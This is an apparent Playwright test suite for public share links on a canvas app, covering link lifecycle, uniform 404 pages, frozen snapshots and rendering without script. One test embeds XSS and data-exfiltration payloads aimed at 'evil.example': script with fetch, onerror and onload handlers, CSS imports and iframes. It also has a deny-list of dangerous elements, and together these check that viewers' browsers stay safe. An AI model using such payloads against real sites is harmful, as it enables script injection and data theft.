import type { Browser, BrowserContext, Page } from '@playwright/test';
import { post, stepUpDialog, withApp } from '../support/factors';
import type { Lab } from '../support/lab';
import { expect, expectAccessible, hydrated, test } from '../support/test';

// The browser says itself that a step-up is due, or that a page or a picture isn't there.
test.use({ mayFail: true });
// Two browsers take turns here.
test.beforeEach(() => test.slow());

const shots = process.env.ALUMIA_SHOTS;

/** Keeps a picture for whoever wants to look at it. */
async function look(page: Page, name: string, narrow: boolean): Promise<void> {
  if (shots) await page.screenshot({ path: `${shots}/${name}-${narrow ? 'phone' : 'desktop'}.png` });
}

/** Somebody else's browser: no account, no cookie, complaints and requests to elsewhere written down. */
class Viewer {
  readonly complaints: string[] = [];
  readonly away: string[] = [];

  private constructor(
    readonly context: BrowserContext,
    readonly page: Page,
  ) {}

  static async come(browser: Browser, near: Page, options: { javaScriptEnabled?: boolean } = {}): Promise<Viewer> {
    const scheme = await near.evaluate(() => (matchMedia('(prefers-color-scheme: dark)').matches ? 'dark' : 'light'));
    const context = await browser.newContext({ viewport: near.viewportSize(), colorScheme: scheme as 'dark' | 'light', ...options });
    const viewer = new Viewer(context, await context.newPage());
    viewer.page.on('console', (message) => {
      if (['error', 'warning'].includes(message.type()) && !/Failed to load resource|preloaded/.test(message.text())) viewer.complaints.push(message.text());
    });
    viewer.page.on('pageerror', (error) => viewer.complaints.push(String(error)));
    viewer.page.on('request', (request) => {
      if (new URL(request.url()).hostname !== 'localhost') viewer.away.push(request.url());
    });
    return viewer;
  }

  async leave(): Promise<void> {
    expect(this.complaints).toEqual([]);
    expect(this.away, 'requests to elsewhere').toEqual([]);
    expect(await this.context.cookies()).toEqual([]);
    await this.context.close();
  }

  block(title: string) {
    return this.page.locator('.node[data-kind="block"]', { has: this.page.locator('.node-title', { hasText: title }) });
  }

  async sees404(): Promise<void> {
    await expect(this.page.getByRole('heading', { name: 'This link shows nothing' })).toBeVisible();
    for (const cause of ['turned off', 'has expired', 'was deleted', 'is not complete']) await expect(this.page.getByRole('list')).toContainText(cause);
  }
}

/** Shares through the API; the session was stepped up by setting an app up. */
async function share(lab: Lab, url: string, wishes: unknown = {}): Promise<{ url: string; token: string }> {
  const answer = await post(lab.page.request, url, `/projects/${await lab.project()}/share`, wishes);
  expect(answer.status(), await answer.text()).toBe(201);
  return (await answer.json()).data;
}

test('a link is made, seen live without an account, replaced and turned off', async ({ lab, page, person, server, browser, narrow }) => {
  const { recoveryCodes } = await withApp(page.request, server.url, person);
  await lab.note('First', { x: 0, y: 0 });
  // As if the step-up were long ago.
  await page.request.post(`${server.url}/api/v1/auth/logout`, { headers: { origin: server.url, 'sec-fetch-site': 'same-origin' } });
  const again = await post(page.request, server.url, '/auth/login', { email: person.email, password: person.password, code: recoveryCodes[0] });
  expect(again.status(), await again.text()).toBe(200);
  await lab.open();
  await lab.showCanvas();
  await page.getByRole('button', { name: 'Share', exact: true }).click();
  const dialog = page.getByRole('dialog', { name: 'Share this canvas' });
  await expect(dialog.getByRole('status')).toHaveText('Sharing is off.');
  await expectAccessible(page);
  await look(page, 'dialog-off', narrow);
  await dialog.getByLabel('The link ends').selectOption('1d');
  await dialog.getByLabel('Files used').check();
  await dialog.getByRole('button', { name: 'Make link' }).click();
  // A step-up is asked for there and then, and the link is made by itself.
  await stepUpDialog(page).getByLabel('Code').fill(recoveryCodes[1]);
  await stepUpDialog(page).getByRole('button', { name: 'Confirm' }).click();
  const link = dialog.getByLabel('Link', { exact: true });
  await expect(link).toHaveValue(/\/share\/[0-9a-f]{72}$/);
  const first = await link.inputValue();
  await expect(dialog.getByRole('status')).toContainText('Sharing is on');
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await dialog.getByRole('button', { name: 'Copy link' }).click();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(first);
  await expectAccessible(page);
  await look(page, 'dialog-on', narrow);

  const viewer = await Viewer.come(browser, page);
  const answer = await viewer.page.goto(first);
  expect(answer?.status()).toBe(200);
  expect(answer?.headers()['x-robots-tag']).toContain('noindex');
  expect(answer?.headers()['referrer-policy']).toBe('no-referrer');
  await expect(viewer.page.locator('meta[name="robots"]')).toHaveAttribute('content', /noindex/);
  await hydrated(viewer.page);
  await expect(viewer.page.locator('.canvas[data-ready]')).toBeAttached();
  await expect(viewer.block('First')).toBeVisible();
  await expect(viewer.page.locator('.connection')).toHaveText('Live');
  await expectAccessible(viewer.page);
  await look(viewer.page, 'shared', narrow);

  // Nothing can be changed, with mouse or keys.
  for (const name of ['Undo', 'Snap to grid', 'Arrange', 'Share']) await expect(viewer.page.getByRole('button', { name, exact: true })).toHaveCount(0);
  const place = () => viewer.block('First').evaluate((element: HTMLElement) => element.style.transform);
  const before = await place();
  await viewer.block('First').focus();
  for (const key of ['Delete', 'Shift+ArrowDown']) await viewer.page.keyboard.press(key);
  expect(await place()).toBe(before);

  // Changes are seen as they happen.
  await lab.note('Second', { x: 0, y: 240 });
  await viewer.page.locator('.canvas').focus();
  await viewer.page.keyboard.press('1');
  await expect(viewer.block('Second')).toBeVisible();

  // Replaced: the old one ends there and then, and is dead.
  await dialog.getByRole('button', { name: 'Replace link' }).click();
  await expect(link).not.toHaveValue(first);
  const second = await link.inputValue();
  await viewer.sees404();
  await expect(viewer.page.locator('.node')).toHaveCount(0);
  await expectAccessible(viewer.page);
  await look(viewer.page, 'gone', narrow);
  await viewer.page.goto(first);
  await viewer.sees404();
  await viewer.page.goto(second);
  await expect(viewer.block('First')).toBeVisible();
  await hydrated(viewer.page);

  // Closed and opened again, the link is not shown; turned off, it is dead.
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'Share', exact: true }).click();
  await expect(dialog.getByRole('status')).toContainText('1 view so far');
  await expect(link).toHaveCount(0);
  await dialog.getByRole('button', { name: 'Turn off' }).click();
  await expect(dialog.getByRole('status')).toHaveText('Sharing is off.');
  await viewer.sees404();
  await viewer.leave();
});

test('off, replaced, expired, of a deleted project and mistyped are one page', async ({ lab, page, person, server, browser }) => {
  await withApp(page.request, server.url, person);
  const project = await lab.project();
  const replaced = await share(lab, server.url);
  const off = await share(lab, server.url, { expiresIn: '1h' });
  await lab.api('DELETE', `/projects/${project}/share`);
  const other = await lab.api('POST', '/projects', { name: 'Gone' });
  const deleted = await (await post(page.request, server.url, `/projects/${other.id}/share`, {})).json();
  await lab.api('DELETE', `/projects/${other.id}`);
  const works = await share(lab, server.url, { expiresIn: '30d' });
  const viewer = await Viewer.come(browser, page);
  let first: string | undefined;
  for (const token of [replaced.token, off.token, deleted.data.token, works.token.slice(1), 'nonsense']) {
    const answer = await viewer.page.goto(`${server.url}/share/${token}`);
    expect(answer?.status()).toBe(404);
    const nonce = /'nonce-([^']+)'/.exec(answer!.headers()['content-security-policy'])![1];
    const body = (await answer!.text()).replaceAll(nonce, '');
    expect(body, 'the page tells them apart').toBe(first ??= body);
    await viewer.sees404();
  }
  await viewer.page.goto(`${server.url}/share/project/${works.token}`);
  await expect(viewer.page.locator('.canvas')).toBeVisible();
  await viewer.leave();
});

test('a frozen link shows what was there, whatever happens later', async ({ lab, page, person, server, browser, narrow }) => {
  await withApp(page.request, server.url, person);
  await lab.note('Then', { x: 0, y: 0 });
  const frozen = await share(lab, server.url, { mode: 'frozen' });
  const viewer = await Viewer.come(browser, page);
  await viewer.page.goto(frozen.url);
  await hydrated(viewer.page);
  await lab.note('Later', { x: 0, y: 240 });
  await expect(viewer.page.getByText('Snapshot of')).toBeVisible();
  for (const round of ['open', 'reloaded']) {
    if (round === 'reloaded') await viewer.page.reload();
    await hydrated(viewer.page);
    await viewer.page.waitForTimeout(1_000);
    await expect(viewer.block('Then')).toBeVisible();
    await expect(viewer.block('Later'), round).toHaveCount(0);
  }
  await look(viewer.page, 'frozen', narrow);
  await viewer.leave();
});

test('the canvas is there without script', async ({ lab, page, person, server, browser, narrow }) => {
  await withApp(page.request, server.url, person);
  await lab.note('Plain', { x: 0, y: 0 });
  await lab.note('Far down', { x: 0, y: 3_000 });
  const { url } = await share(lab, server.url);
  const viewer = await Viewer.come(browser, page, { javaScriptEnabled: false });
  await viewer.page.goto(url);
  await expect(viewer.block('Plain')).toContainText('The text of Plain.');
  await viewer.block('Far down').scrollIntoViewIfNeeded();
  await expect(viewer.block('Far down')).toBeInViewport();
  await look(viewer.page, 'no-script', narrow);
  await viewer.leave();
});

test('what a model wrote neither runs nor sends anything at a viewer\'s', async ({ lab, page, person, server, browser }) => {
  await withApp(page.request, server.url, person);
  const evil = 'evil.example';
  const text = [
    `![pixel](https://${evil}/pixel.png?secret=1)`,
    `[link](https://${evil}/link)`,
    `<img src="https://${evil}/img.png" onerror="window.broken = 1">`,
    `<svg onload="window.broken = 1"><image href="https://${evil}/svg.png"/></svg>`,
    `<style>@import "https://${evil}/a.css"; * { background: url(https://${evil}/bg.png) }</style>`,
    `<link rel="preload" href="https://${evil}/style.css">`,
    `<script>window.broken = 1; fetch("https://${evil}/script")</script>`,
    `<iframe src="https://${evil}/frame"></iframe>`,
  ].join('\n\n');
  const blocks: [string, unknown][] = [
    ['Note', { kind: 'data', data: { type: 'markdown', text } }],
    ['Card', { kind: 'data', data: { type: 'card', title: text, text, image: `https://${evil}/card.png` } }],
    ['Picture', { kind: 'show', data: { type: 'image', path: `https://${evil}/image.svg`, alt: text } }],
    ['Document', { kind: 'show', data: { type: 'document', text } }],
    ['Terminal', { kind: 'show', data: { type: 'terminal', command: text, output: text } }],
  ];
  for (const [index, [title, content]] of blocks.entries()) await lab.put(title, content, { x: 0, y: index * 260, width: 300, height: 240 });
  for (const files of [false, true]) {
    const { url } = await share(lab, server.url, { files });
    const viewer = await Viewer.come(browser, page);
    await viewer.page.goto(url);
    await hydrated(viewer.page);
    await viewer.page.locator('.canvas').focus();
    await viewer.page.keyboard.press('1');
    for (const [title] of blocks) await expect(viewer.block(title)).toBeAttached();
    await viewer.page.waitForTimeout(500);
    expect(await viewer.page.evaluate(() => (window as any).broken)).toBeUndefined();
    const main = viewer.page.locator('#main');
    for (const bad of ['script', 'iframe', 'form[action]', 'style', 'link', '[onerror]', '[onload]', `img[src^="https"]`]) await expect(main.locator(bad), bad).toHaveCount(0);
    // Counts requests to elsewhere: none.
    await viewer.leave();
  }
});

test('pictures come with files and stay away without', async ({ lab, page, person, server, browser, narrow }) => {
  await withApp(page.request, server.url, person);
  const project = await lab.project();
  const pixel = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
  const put = await page.request.put(`${server.url}/api/v1/projects/${project}/files/content?path=maps/dot.png`, {
    data: pixel,
    headers: { origin: server.url, 'sec-fetch-site': 'same-origin' },
  });
  expect(put.status()).toBe(200);
  await lab.put('Map', { kind: 'show', data: { type: 'image', path: 'maps/dot.png', alt: 'One dot' } }, { x: 0, y: 0, width: 300, height: 240 });
  for (const files of [true, false]) {
    const { url } = await share(lab, server.url, { files });
    const viewer = await Viewer.come(browser, page);
    await viewer.page.goto(url);
    await hydrated(viewer.page);
    if (files) {
      const picture = viewer.block('Map').getByRole('img', { name: 'One dot' });
      await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1);
    } else {
      await expect(viewer.block('Map')).toContainText('Files are not shared here.');
      await look(viewer.page, 'no-files', narrow);
    }
    await viewer.leave();
  }
});
